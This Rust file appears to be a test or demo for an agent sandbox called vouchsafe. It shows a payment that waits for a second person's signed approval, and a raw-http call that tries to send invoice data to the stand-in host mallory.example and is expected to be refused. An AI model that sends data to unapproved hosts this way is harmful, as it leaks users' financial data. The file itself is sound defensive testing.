//! The payment: it waits for a person who is not who asked, is made once, and what belongs to it goes nowhere else.

use anyhow::{Context, Result, ensure};
use serde_json::{Value as Json, json};
use vouchsafe_tests::bank::Bank;

use crate::PROOF;
use crate::agent::{Agent, NAME, show};
use crate::stage::Stage;

/// What the bank asks for, which neither skill nor agent ever sees.
pub(crate) const TOKEN: &str = "tok-9f2c41d05be17a3344c2e81a";

/// Exit code for a tool that ran and failed.
const TOOL: i32 = 5;

/// Pays `invoice` at `bank`, once bo has said yes.
pub(crate) fn waits_for_a_person(
    stage: &Stage,
    agent: &Agent,
    bank: &Bank,
    invoice: &Json,
    settings: &str,
) -> Result<()> {
    stage.heading(
        "The operator lets `payments` pay at the bank, if somebody else than who asks says yes",
    );
    stage.brings_skill("initiate-payment", PROOF)?;
    stage.write(
        "home/config/grants/vouchsafe-skills.payments.toml",
        &grant(bank),
    )?;
    let works_for = format!(
        "{}\n{settings}[works-for]\n{NAME} = \"anna@corp.example\"\n",
        agent.settings()
    );
    stage.write("home/config/vouchsafe.toml", &works_for)?;
    stage.quietly(&format!("key new bo {PROOF}"))?;
    stage.vouchsafe("approver enrol bo --person bo@corp.example --key bo.pub", 0)?;
    stage.vouchsafe(&format!("install initiate-payment.wasm --yes {PROOF}"), 0)?;
    stage.piped(&format!("secret set bank-token --yes {PROOF}"), TOKEN)?;

    stage.heading("The agent asks; nothing runs until bo has seen it and signed");
    let order = order(invoice)?;
    std::thread::scope(|both| {
        // The agent's request stays open meanwhile.
        let paying = both.spawn(|| agent.waits_for("payments_initiate", order));
        let id = waiting(stage)?;
        stage.vouchsafe(&format!("approve {id} --key bo.key {PROOF}"), 0)?;
        let reply = paying
            .join()
            .map_err(|_| anyhow::anyhow!("the call broke"))??;
        anstream::println!("tools/call  payments_initiate");
        show(&reply.structured_content.context("it was not paid")?);
        Ok::<_, anyhow::Error>(())
    })?;
    let payments = bank.payments();
    ensure!(
        payments.len() == 1,
        "the bank took {} orders",
        payments.len()
    );
    anstream::println!("the bank has one order: {}", Json::Array(payments));
    has_ended(stage)?;
    stage.vouchsafe("audit show --limit 6", 0)?;
    Ok(())
}

/// Sends data to a host that no grant names.
pub(crate) fn goes_nowhere_else(stage: &Stage, bank: &Bank) -> Result<()> {
    stage.heading("Refused: sending the invoice to a host that is not granted");
    stage.brings_guest("raw-http", PROOF)?;
    let target = bank
        .grant("bank-token")
        .replace("[http.bank]", "[http.target]");
    let target = target.split("allow").next().unwrap_or_default();
    let grant = format!(
        "{}\n[tools]\nsend = {{}}\n\n{target}",
        head("guests:raw-http")
    );
    std::fs::write(stage.path("home/config/grants/guests.raw-http.toml"), grant)?;
    stage.quietly(&format!("install raw-http.wasm --yes {PROOF}"))?;
    let request = json!({
        "method": "POST", "scheme": "https", "authority": "mallory.example", "path": "/",
        "headers": [], "body": "INV-2031",
    });
    let send = json!({ "request": request, "times": 1 });
    stage.write("send.json", &format!("{send}\n"))?;
    stage.vouchsafe("call raw-http_send --input send.json", TOOL)?;
    stage.vouchsafe("audit show --limit 3", 0)?;
    stage.vouchsafe("audit verify", 0)?;
    Ok(())
}

fn grant(bank: &Bank) -> String {
    format!(
        "{}\n[tools]\ninitiate = {{ confirm = \"four-eyes\" }}\nstatus = {{}}\n\n{}",
        head("vouchsafe-skills:payments"),
        bank.grant("bank-token")
    )
}

pub(crate) fn head(skill: &str) -> String {
    let digest = "0".repeat(64); // `install` writes the true one
    format!("skill = \"{skill}\"\npublisher = \"author\"\ndigest = \"sha256:{digest}\"\n")
}

/// What the invoice asks to be paid, as the payments skill takes it.
fn order(invoice: &Json) -> Result<Json> {
    let text = |pointer: &str| {
        let found = invoice.pointer(pointer).and_then(Json::as_str);
        found.with_context(|| format!("the invoice has no {pointer}"))
    };
    let (whole, cents) = text("/totals/payable")?
        .split_once('.')
        .context("a sum with cents")?;
    let minor: u64 = format!("{whole}{cents}").parse()?;
    Ok(json!({
        "iban": text("/payments/0/account")?,
        "amount": { "minor": minor, "currency": text("/currency")? },
        "reference": text("/number")?,
    }))
}

/// Waits until the record says that the approval was used: that is after the answer, by a moment.
fn has_ended(stage: &Stage) -> Result<()> {
    for _ in 0..200 {
        let last = stage
            .command("audit show --limit 1 --json")
            .output()?
            .stdout;
        let last: Json = serde_json::from_slice(&last)?;
        if last.pointer("/0/action").and_then(Json::as_str) == Some("approval-ended") {
            return Ok(());
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    anyhow::bail!("the approval has no end")
}

/// The name of the call that waits, once one does.
fn waiting(stage: &Stage) -> Result<String> {
    for _ in 0..200 {
        let told = stage.command("approvals --json").output()?.stdout;
        let told: Json = serde_json::from_slice(&told)?;
        if let Some(id) = told.pointer("/0/id").and_then(Json::as_str) {
            return Ok(id.to_owned());
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    anyhow::bail!("nothing waits")
}
